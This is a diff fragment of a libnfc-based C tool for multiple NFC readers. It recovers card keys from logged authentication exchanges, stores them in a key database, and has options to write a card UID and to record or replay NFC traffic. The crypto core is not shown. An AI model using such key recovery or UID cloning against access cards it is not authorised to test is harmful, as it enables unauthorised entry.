+		  if (read_log_entry(s, 0, &ae0) && read_log_entry(s, 1, &ae1)
+		      && recover_key(prepare_uint32(read_uid), &ae0, &ae1, &key)) {
+			  if (multi_device)
+				  printf("\n[%zu] Key found: %012" PRIx64 "\n", s->szDevice, key);
+			  else
+				  printf("\nKey found: %" PRIx64 "\n", key);
+			  store_key(read_uid, &ae0, key);
+		  }
 	  }
   }
 
-  nfc_close(pnd);
+  iso_dep_deselect(s->pid);
+  iso_dep_free(s->pid);
+  s->pid = NULL;
+  return true;
+}
+
+static void *
+session_thread(void *arg)
+{
+  struct cpu_session *s = arg;
+  s->bSuccess = process_card(s);
+  return NULL;
+}
+
+int
+main(int argc, char *argv[])
+{
+  int      arg, i;
+  //bool     format = false;
+  unsigned int c;
+  char     tmp[3] = { 0x00, 0x00, 0x00 };
+  struct cpu_session *sessions;
+  pthread_t threads[MAX_DEVICE_COUNT];
+  size_t   szDevices = 0;
+  bool     bSuccess = true;
+
+
+  // Get commandline options
+  for (arg = 1; arg < argc; arg++) {
+    if (0 == strcmp(argv[arg], "-h")) {
+      print_usage(argv);
+      exit(EXIT_SUCCESS);
+    } else if (0 == strcmp(argv[arg], "-w")) {
+      writeUid = true;
+    } else if (0 == strcmp(argv[arg], "-i")) {
+      resetCount = true;
+    } else if (0 == strcmp(argv[arg], "-r")) {
+	  readData = true;	
+	} else if (0 == strcmp(argv[arg], "-a")) {
+	  readAllData = true;
+	} else if (0 == strcmp(argv[arg], "-d")) {
+	  quiet_output = false;	
+	} else if (0 == strcmp(argv[arg], "-m")) {
+	  multi_device = true;
+	} else if (0 == strcmp(argv[arg], "-c") && arg + 1 < argc) {
+	  device = argv[++arg];
+	} else if (0 == strcmp(argv[arg], "-K") && arg + 1 < argc) {
+	  keydb_path = argv[++arg];
+	} else if (0 == strcmp(argv[arg], "-T") && arg + 1 < argc) {
+	  latency_path = argv[++arg];
+	} else if (0 == strcmp(argv[arg], "-M") && arg + 1 < argc) {
+	  metrics_path = argv[++arg];
+	} else if (0 == strcmp(argv[arg], "-O") && arg + 1 < argc) {
+	  record_path = argv[++arg];
+	} else if (0 == strcmp(argv[arg], "-I") && arg + 1 < argc) {
+	  replay_path = argv[++arg];
+	} else if (0 == strcmp(argv[arg], "-P")) {
+	  replay_paced = true;
+	} else if (strlen(argv[arg]) == 8) {
+      for (i = 0 ; i < 4 ; ++i) {
+        memcpy(tmp, argv[arg] + i * 2, 2);
+        sscanf(tmp, "%02x", &c);
+        //abtData[i] = (char) c;
+		card_uid[i] = (char) c;
+      }
+      //abtData[4] = abtData[0] ^ abtData[1] ^ abtData[2] ^ abtData[3];
+      //iso14443a_crc_append(abtData, 16);
+    } else {
+      ERR("%s is not supported option.", argv[arg]);
+      print_usage(argv);
+      exit(EXIT_FAILURE);
+    }
+  }
+
+  if (multi_device && device != NULL) {
+    ERR("-c opens a single reader, -m all of them");
+    exit(EXIT_FAILURE);
+  }
+  if (keydb_path != NULL && (keydb = mf_keydb_open(keydb_path)) == NULL)
+    exit(EXIT_FAILURE);
+  if (latency_path != NULL && !latency_load(latency_path))
+    exit(EXIT_FAILURE);
+  if (metrics_path != NULL && !metrics_start(metrics_path))
+    exit(EXIT_FAILURE);
+  if (record_path != NULL && !nfct_record(record_path))
+    exit(EXIT_FAILURE);
+  if (replay_path != NULL && !nfct_replay(replay_path, replay_paced))
+    exit(EXIT_FAILURE);
+
+  nfc_init(&context);
+  if (context == NULL) {
+    ERR("Unable to init libnfc (malloc)");
+    exit(EXIT_FAILURE);
+  }
+
+  sessions = calloc(MAX_DEVICE_COUNT, sizeof(struct cpu_session));
+  if (sessions == NULL) {
+    ERR("Unable to allocate sessions (malloc)");
+    nfc_exit(context);
+    exit(EXIT_FAILURE);
+  }
+
+  if (multi_device) {
+    nfc_connstring connstrings[MAX_DEVICE_COUNT];
+    size_t szFound = nfct_list_devices(context, connstrings, MAX_DEVICE_COUNT);
+
+    for (size_t n = 0; n < szFound; n++) {
+      nfc_device *pnd = nfct_open(context, connstrings[n]);
+      if (pnd == NULL) {
+        ERR("Unable to open NFC device: %s", connstrings[n]);
+        continue;
+      }
+      if (!init_device(pnd)) {
+        nfct_close(pnd);
+        continue;
+      }
+      sessions[szDevices].pnd = pnd;
+      sessions[szDevices].szDevice = szDevices;
+      szDevices++;
+    }
+  } else {
+    // Try to open the NFC reader
+    nfc_device *pnd = nfct_open_cached(context, device);
+    if (pnd != NULL) {
+      if (!init_device(pnd)) {
+        nfct_close(pnd);
+        free(sessions);
+        nfc_exit(context);
+        exit(EXIT_FAILURE);
+      }
+      sessions[0].pnd = pnd;
+      szDevices = 1;
+    }
+  }
+
+  if (szDevices == 0) {
+    ERR("Error opening NFC reader");
+    free(sessions);
+    nfc_exit(context);
+    exit(EXIT_FAILURE);
+  }
+
+  if (multi_device) {
+    for (size_t n = 0; n < szDevices; n++) {
+      if (pthread_create(&threads[n], NULL, session_thread, &sessions[n]) != 0) {
+        ERR("Unable to start worker for reader %zu", n);
+        nfct_close(sessions[n].pnd);
+        sessions[n].pnd = NULL;
+      }
+    }
+    for (size_t n = 0; n < szDevices; n++) {
+      if (sessions[n].pnd != NULL)
+        pthread_join(threads[n], NULL);
+    }
+  } else {
+    session_thread(&sessions[0]);
+  }
+
+  if (latency_path != NULL) {
+    printf("Learned timeouts:\n");
+    latency_print();
+    latency_save(latency_path);
+  }
+  metrics_write();
+
+  for (size_t n = 0; n < szDevices; n++) {
+    if (sessions[n].pnd != NULL) {
+      bSuccess = bSuccess && sessions[n].bSuccess;
+      latency_detach(sessions[n].pnd);
+      nfct_close(sessions[n].pnd);
+    } else {
+      bSuccess = false;
+    }
+  }
+  nfct_finish();
+  free(sessions);
   nfc_exit(context);
-  exit(EXIT_SUCCESS);
+  mf_keydb_close(keydb);
+  exit(bSuccess ? EXIT_SUCCESS : EXIT_FAILURE);
 }